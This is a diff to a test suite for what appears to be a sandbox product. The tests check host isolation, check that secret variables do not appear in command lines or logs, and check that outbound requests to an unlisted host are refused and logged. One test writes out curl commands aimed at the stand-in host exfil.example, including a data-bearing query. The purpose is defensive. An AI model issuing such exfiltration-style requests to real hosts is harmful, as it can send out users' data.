@@ -69,7 +69,7 @@ for path in {[str(p) for p in places]!r}:
         try:
             open(seen).read(); found.append(seen)
         except OSError: pass
-for top in ("/home", "/tmp", "/run", "/var", "/etc", "/opt", "/srv", "/root", "/dev", "/workspace"):
+for top in ("/home", "/tmp", "/run", "/var", "/etc", "/opt", "/srv", "/root", "/dev/shm", "/workspace"):
     for folder, _, names in os.walk(top):
         for name in names:
             if name == "ptmx": continue  # a read of it waits for ever
@@ -219,8 +219,8 @@ def test_abstract_unix_sockets_of_the_host_are_out_of_reach(product: Product) ->
 
 def test_an_unlisted_host_is_refused_and_logged(product: Product) -> None:
     ran = product.run(
-        "curl -sS -o /dev/null -w '%{http_connect}' https://exfil.example/ ; curl -sS http://exfil.example/?data=1 -o /dev/null -w ' %{http_code}'"
-        " || true"
+        "curl -s -o /dev/null -w '%{http_connect} ' https://exfil.example/;"
+        "curl -s -o /dev/null -w '%{http_code}\\n' 'http://exfil.example/?data=1'"
     )
     assert ran.printed.split() == ["403", "403"], ran.stderr
     refused = [e for e in product.events(ran, "network") if e.get("host") == "exfil.example"]
@@ -243,7 +243,7 @@ def test_a_passed_variable_is_on_no_command_line_and_in_no_log(product: Product)
     for path in product.home.rglob("*"):
         if path.is_file():
             assert secret.encode() not in path.read_bytes(), path
-    child = with_secret.start("echo x > f; sleep 30", "--env", "MY_TOKEN")
+    child = with_secret.start("echo x > f; sleep 60", "--env", "MY_TOKEN")
     try:
         _uids_of(product)
         lines = b"".join(p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if _readable(p))
